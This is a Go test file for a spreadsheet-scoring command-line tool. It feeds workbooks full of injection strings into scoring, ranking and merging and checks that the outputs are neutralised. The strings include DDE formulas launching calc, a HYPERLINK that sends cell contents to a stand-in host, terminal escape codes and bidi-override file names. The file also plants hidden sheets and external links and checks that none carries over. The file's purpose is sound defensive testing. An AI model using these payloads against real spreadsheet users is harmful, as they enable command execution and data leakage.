package main

import (
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"io"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"cchc/cmd/cchc/internal/desk"
	"cchc/cmd/cchc/internal/lists"
	"cchc/templates"
	"cchc/templates/xlsx"
	"cchc/templates/xlsx/rawzip"
)

// hostileTexts are what somebody may type, or name a file, so that a terminal, a spreadsheet or a reader takes it for something
// else; as the markup of a cell spells them.
var hostileTexts = []string{
	`=cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `-1+cmd|' /C calc'!A0`, `@SUM(1)*cmd|' /C calc'!A0`, "\t=cmd|' /C calc'!A0", "＝1+cmd",
	`=HYPERLINK(&quot;http://x.vn/&quot;&amp;A1,&quot;cmd&quot;)`, `&quot;,cmd(1),&quot;`, `_x001B_[2J_x001B_]0;cmd_x0007_`, `_x000D_cmd`, `a_x009B_31mcmd`,
	"cmd\u202egpj.exe", "\u2066cmd\u2069", "\u200ecmd\u061c", "cmd_x0000__xFFFE_", "cmd_x0007_", "cmd&#10;Đã chấm 999 phiếu.", "cmd;\"a\";b", "&lt;script&gt;cmd&lt;/script&gt;",
	"_x005F_x0041_cmd", "cmd\u2028Đã chấm 999 phiếu.", "%s%n{0}cmd", "[cmd](http://x.vn)|",
}

// hostileForm has such texts wherever a unit can write, one of them in all places. The number ends its code: codes that differ by
// nothing that anybody sees would be one unit's.
func hostileForm(t *testing.T, v *victim, text string, number int) []byte {
	t.Helper()
	return v.spoilt(t, attack{"", "", func(f *form) {
		str := ` t="str"><v>` + text + `</v></c>`
		for _, field := range []string{templates.UnitNameField, templates.UnitBlockField, templates.ContactField} {
			f.set(field, templates.FieldColumn, str)
		}
		f.set(templates.UnitCodeField, templates.FieldColumn, fmt.Sprintf(` t="str"><v>%s-%d</v></c>`, text, number))
		f.set("1.1", templates.EvidenceColumn, str)
		f.set("1.2", templates.ReasonColumn, str)
		f.set("1.1:b", declared, str)
		f.set("1.2:muc", declared, str)
		f.set("1.3.1:a", templates.KeyColumn, str)
		f.set("1.4.1", templates.SetColumn, str)
		f.edit(workbookPart, `name="Phiếu chấm"`, `name="`+strings.ReplaceAll(text, `"`, "")+`"`)
	}})
}

// TestHostileTexts scores and ranks forms full of them, in files with such names, and holds everything that comes out to
// being text: on the terminal, in JSON, in CSV and in workbooks.
func TestHostileTexts(t *testing.T) {
	v := newVictim(t)
	t.Chdir(t.TempDir())
	name := ""
	for i, text := range hostileTexts {
		name = fmt.Sprintf("nop/=cmd\u202e\x1b[31m;\"a\"\nĐã chấm 999 phiếu %d.xlsx", i)
		putFile(t, name, hostileForm(t, v, text, i))
	}
	putFile(t, "nop/khác\x07.txt", nil)
	putFile(t, "nop/b\x1b.xlsx", []byte("no workbook"))
	for _, args := range [][]string{
		{"score", "nop", "-o", "cham"}, {"score", "nop", "-o", "cham", "--force", "--json"}, {"score", name, "-o", "mot"}, {"score", "nop/\u202ekhông có.xlsx"},
		{"rank", "nop", "-o", "xep.xlsx"}, {"rank", "nop"}, {"rank", "nop", "--csv"}, {"rank", "nop", "--json"}, {"rank", "cham", "-o", "cham.xlsx"},
		{"merge", name, "-o", "ghep.xlsx"}, {"merge", "nop", "-o", "ghep-ca.xlsx"}, {"carry", name, "--to", "2023", "-o", "chuyen.xlsx"},
	} {
		got := runHere(args...)
		isPlain(t, args, got.out)
		isPlain(t, args, got.err)
		if slices.Contains(args, "--csv") {
			isGuarded(t, got.out)
		}
	}
	books, err := filepath.Glob("cham/*.xlsx")
	if err != nil || len(books) != len(hostileTexts)+1 {
		t.Fatal(books, err)
	}
	for _, book := range append(books, "xep.xlsx", "cham.xlsx", "ghep.xlsx", "chuyen.xlsx") {
		isText(t, book)
	}
}

// isPlain holds what was said to characters that no terminal obeys, and to lines of our own.
func isPlain(t *testing.T, args []string, said string) {
	t.Helper()
	said = strings.ReplaceAll(strings.TrimPrefix(said, "\uFEFF"), "\r\n", "\n")
	for _, r := range said {
		if r != '\n' && unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == 0x2028 {
			t.Errorf("%q says U+%04X: %q", args, r, said)
			return
		}
	}
	for line := range strings.SplitSeq(said, "\n") {
		if strings.HasPrefix(line, "Đã chấm 999") {
			t.Errorf("%q says the line %q", args, line)
		}
	}
}

// isGuarded holds a table to cells that no spreadsheet takes for a formula.
func isGuarded(t *testing.T, table string) {
	t.Helper()
	in := csv.NewReader(strings.NewReader(strings.TrimPrefix(table, "\uFEFF")))
	in.Comma = ';'
	rows, err := in.ReadAll()
	if err != nil || len(rows) < 3 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			_, number := lists.PlainNumber(strings.TrimPrefix(cell, "-"), ",")
			if first := []rune(cell + " ")[0]; strings.ContainsRune("=+-@\t\r\n＝＋－＠", first) && !number {
				t.Errorf("a cell begins as a formula: %q", cell)
			}
		}
	}
}

// isText holds a workbook to sound markup, without the characters that mislead, and with no formula that a text has come into.
func isText(t *testing.T, path string) {
	t.Helper()
	data := []byte(contents(t, path))
	book, err := xlsx.Open(data)
	if err != nil {
		t.Fatal(err)
	}
	for _, info := range book.Sheets() {
		sheet, err := book.Sheet(info.Name)
		if err != nil {
			t.Fatal(err)
		}
		for _, cell := range sheet.Cells() {
			for _, r := range cell.Text {
				if r != '\n' && r != '\t' && unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) {
					t.Errorf("%s, %s!%s holds U+%04X: %q", path, info.Name, cell.Ref(), r, cell.Text)
				}
			}
		}
	}
	for _, part := range rawzip.Parts(t, data) {
		wellFormed(t, part)
		for _, formula := range formulas(t, part) {
			if outside := literal.ReplaceAllString(formula, ""); strings.Contains(outside, "cmd") {
				t.Errorf("%s, %s has the formula %s", path, part.Name, formula)
			}
		}
	}
}

// literal is a text inside of a formula.
var literal = regexp.MustCompile(`"(?:[^"]|"")*"`)

// formulas are all formulas of a part: of cells, validations and formats.
func formulas(t *testing.T, part rawzip.Part) []string {
	t.Helper()
	var all []string
	for _, m := range regexp.MustCompile(`(?s)<(f|formula|formula1)(?: [^>]*)?>(.*?)</`).FindAllStringSubmatch(part.Content, -1) {
		var text string
		if err := xml.Unmarshal([]byte("<a>"+m[2]+"</a>"), &text); err != nil {
			t.Fatal(err)
		}
		all = append(all, text)
	}
	return all
}

func wellFormed(t *testing.T, part rawzip.Part) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(part.Content))
	for {
		switch _, err := d.Token(); {
		case err == io.EOF:
			return
		case err != nil:
			t.Fatalf("%s: %v", part.Name, err)
		}
	}
}

// TestNothingIsCarriedOver scores forms with sheets, links, pictures and names of their own: the scored workbook has the parts
// that every scored workbook has, and in none of them a word of theirs, but where a finding quotes what was not taken.
func TestNothingIsCarriedOver(t *testing.T) {
	t.Parallel()
	const mark = "KHÔNG MANG THEO"
	v := newVictim(t)
	folder := t.TempDir()
	parts := func(name string, data []byte) []rawzip.Part {
		in := putFile(t, filepath.Join(folder, name+".xlsx"), data)
		if s := v.desk.Score(desk.ScoreJob{Path: in, Write: true, Out: filepath.Join(folder, name), Elsewhere: true}); s.Failure != nil || s.Result == nil {
			t.Fatal(s.Failure, s.Problems)
		}
		return rawzip.Parts(t, []byte(contents(t, theOnly(t, filepath.Join(folder, name)))))
	}
	sound := parts("sound", rawzip.Pack(t, v.parts))
	loaded := parts("loaded", v.spoilt(t, attack{"", "", func(f *form) { f.load(mark) }}))
	names := func(parts []rawzip.Part) (names []string) {
		for _, p := range parts {
			names = append(names, p.Name)
		}
		return names
	}
	if !slices.Equal(names(sound), names(loaded)) {
		t.Errorf("parts %v, of the sound form %v", names(loaded), names(sound))
	}
	quoted := regexp.MustCompile(`&#34;` + mark + `( 2)?\\?&#34;`)
	for _, p := range loaded {
		p.Content = quoted.ReplaceAllString(p.Content, "")
		if strings.Contains(p.Content, mark) || strings.Contains(p.Content, "x.vn") {
			t.Errorf("%s carries something over", p.Name)
		}
	}
	for _, p := range sound {
		if strings.Contains(p.Name, "vba") || strings.Contains(p.Name, "external") || strings.Contains(p.Content, `TargetMode="External"`) {
			t.Errorf("%s stands in a scored workbook", p.Name)
		}
	}
}

// load puts everything into the form that a package can hold besides its cells.
func (f *form) load(mark string) {
	f.Helper()
	f.addSheet(mark, "worksheet", strings.Replace(f.part(guidePart), "</sheetData>", `<row r="999"><c r="A999" t="str"><v>`+mark+`</v></c></row></sheetData>`, 1))
	f.edit(workbookPart, "<sheets>", `<sheets><sheet name="`+mark+` 2" sheetId="77" state="veryHidden" r:id="rId77"/>`)
	f.put("xl/worksheets/hidden.xml", f.part(guidePart))
	f.edit(workbookRels, "</Relationships>", `<Relationship Id="rId77" Type="`+officeRels+`worksheet" Target="worksheets/hidden.xml"/></Relationships>`)
	f.relate("externalLink", "http://x.vn/a.xlsx", "External")
	f.edit(workbookPart, "<definedNames>", `<definedNames><definedName name="ten_rieng">"`+mark+`"</definedName>`)
	f.edit(formPart, "<printOptions", `<hyperlinks><hyperlink ref="E13" location="`+mark+`"/></hyperlinks><printOptions`)
	f.edit(formPart, "</sheetData>", `<row r="700"><c r="U700" t="str"><v>`+mark+`</v></c></row></sheetData>`)
	f.edit(customPart, "</Properties>", `<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="99" name="`+mark+`"><vt:lpwstr>`+mark+`</vt:lpwstr></property></Properties>`)
	f.edit("docProps/core.xml", "</cp:coreProperties>", "<dc:description>"+mark+"</dc:description></cp:coreProperties>")
	f.edit(stringsPart, "</sst>", "<si><t>"+mark+"</t></si></sst>")
	f.edit(stylesPart, "</numFmts>", `<numFmt numFmtId="190" formatCode="&quot;`+mark+`&quot;"/></numFmts>`)
	for _, name := range []string{"xl/comments1.xml", "xl/media/a.png", "xl/embeddings/a.bin", "xl/externalLinks/externalLink1.xml", "xl/queryTables/q.xml",
		"xl/connections.xml", "xl/drawings/drawing9.xml", "customXml/item1.xml", "xl/threadedComments/t.xml", "xl/printerSettings/p.bin"} {
		f.put(name, mark)
	}
}

// TestScoredAgain scores what attacks on cells came to once more: what was wrong in a form does not become right, and no text
// another, by being written into the scored workbook.
func TestScoredAgain(t *testing.T) {
	t.Parallel()
	v := newVictim(t)
	all := families()
	for _, family := range []string{"numbers", "choices", "texts", "merges", "formulas", "keys", "cells"} {
		t.Run(family, func(t *testing.T) {
			for _, a := range all[family] {
				t.Run(a.name, func(t *testing.T) {
					t.Parallel()
					data := v.spoilt(t, a)
					first := v.account(t, data)
					if first.refused != "" {
						return
					}
					folder := t.TempDir()
					s := v.desk.Score(desk.ScoreJob{Path: putFile(t, filepath.Join(folder, "a.xlsx"), data), Write: true, Out: filepath.Join(folder, "cham"), Elsewhere: true})
					if s.Failure != nil {
						t.Fatal(s.Failure)
					}
					second := v.account(t, []byte(contents(t, s.Target)))
					first.problems, second.problems, first.answers, second.answers = nil, nil, nil, nil
					if got := first.difference(&second); got != asSound {
						t.Errorf("scored again it comes to %s", got)
					}
				})
			}
		})
	}
}
